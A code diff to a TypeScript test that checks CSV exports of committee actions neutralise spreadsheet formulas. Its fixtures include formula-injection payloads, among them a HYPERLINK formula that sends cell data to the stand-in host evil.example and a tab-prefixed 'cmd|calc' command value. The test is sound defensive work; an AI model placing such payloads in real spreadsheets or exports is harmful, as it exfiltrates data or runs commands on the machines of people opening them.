@@ -5,6 +5,7 @@
 import fs from 'node:fs';
 import path from 'node:path';
 import { exportActions } from '../../../main/actions/export-request';
+import { exportText } from '../../../shared/types/export';
 import { actionsCsv, actionsIcs } from '../../../main/actions/exports';
 import { listEntries } from '../../../main/actions/queries';
 import { addManualEntry } from '../../../main/actions/updates';
@@ -40,7 +41,7 @@ describe('actions exports with hostile or non-ASCII text', () => {
   test('a formula in an action is not a formula in the CSV', async () => {
     addManualEntry(store.db, { committeeId, kind: 'action', what: '=HYPERLINK("https://evil.example/?d="&A1,"Click")', owner: '@SUM(1+1)', due: '2025-02-28', recommendedTo: '+44 20 7946 0000' });
     addManualEntry(store.db, { committeeId, kind: 'action', what: '-2+3', owner: '\tcmd|calc', due: '2025-03-01' });
-    for (const csv of [actionsCsv(entries()), (await exportActions(store.db, { format: 'csv' }, TODAY)).text ?? '']) {
+    for (const csv of [actionsCsv(entries()), exportText(await exportActions(store.db, { format: 'csv' }, TODAY))]) {
       const rows = parseCsv(csv);
       expect(rows.every((r) => r.length === 12)).toBe(true);
       // No cell a spreadsheet would read as a formula: each such cell starts with an apostrophe.
